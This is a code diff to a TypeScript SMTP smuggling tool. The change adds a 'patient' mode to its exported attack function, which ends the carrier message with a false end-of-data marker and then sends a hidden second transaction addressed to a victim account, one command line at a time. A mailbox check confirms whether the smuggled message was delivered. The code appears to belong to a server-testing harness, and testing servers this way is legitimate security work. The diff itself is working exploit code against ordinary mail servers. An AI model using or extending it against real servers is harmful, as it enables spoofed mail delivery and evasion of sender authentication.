@@ -13,6 +13,8 @@ export interface Manner {
   readonly second: 'DATA' | 'BDAT';
   /** Each octet of the false end in a segment of its own. */
   readonly split?: boolean;
+  /** Each line of the second transaction in a segment of its own, when the one before it was answered. */
+  readonly patient?: boolean;
 }
 
 /** A session that said hello in the manner; HELO is for strangers, for a user has to log in. */
@@ -55,9 +57,12 @@ export async function attack(
   const hidden = secondTransaction(services, begun, victim, inner, manner);
   const end = encode(services, falseEnd);
   const pieces = manner.split
-    ? [carrier, ...[...end].map((octet) => Buffer.from([octet])), hidden]
-    : [Buffer.concat([carrier, end, hidden])];
-  const trial = await observe(services, client, pieces, manner.second);
+    ? [carrier, ...[...end].map((octet) => Buffer.from([octet])), ...hidden]
+    : manner.patient
+      ? [Buffer.concat([carrier, end]), ...hidden]
+      : [Buffer.concat([carrier, end, ...hidden])];
+  const patience = manner.patient ? services.target.timing.quietMs : undefined;
+  const trial = await observe(services, client, pieces, manner.second, patience);
   client.connection.close();
   const carrierFound = trial.taken
     ? await services.inMailbox({ token: outer, sent: content, account: account() })
@@ -82,20 +87,25 @@ function victimOf({ target, account }: Services): Account {
   return target.accounts[1] ?? account();
 }
 
-/** The second transaction, up to the real end of the data for a server that sees only one message. */
+/**
+ * The second transaction, up to the real end of the data for a server that sees only one message, in the
+ * pieces that a server would answer one by one.
+ */
 function secondTransaction(
   services: Services,
   { from }: Begun,
   victim: Account,
   token: string,
-  { second }: Manner,
-): Buffer {
+  { second, patient = false }: Manner,
+): readonly Buffer[] {
   const { bytes } = services;
   const content = message(services, { token, from });
   const commands = [`MAIL FROM:<${from}>`, `RCPT TO:<${victim.address}>`];
-  if (second === 'DATA') return Buffer.concat([bytes.lines(...commands, 'DATA'), content, bytes.line('.')]);
-  const chunk = Buffer.concat([content, bytes.line('.')]);
-  return Buffer.concat([bytes.lines(...commands, `BDAT ${chunk.length} LAST`), chunk]);
+  const body = Buffer.concat([content, bytes.line('.')]);
+  const lines = [...commands, second === 'DATA' ? 'DATA' : `BDAT ${body.length} LAST`];
+  return patient
+    ? [...lines.map((command) => bytes.line(command)), body]
+    : [Buffer.concat([bytes.lines(...lines), body])];
 }
 
 /** A false end brings its own line end. */
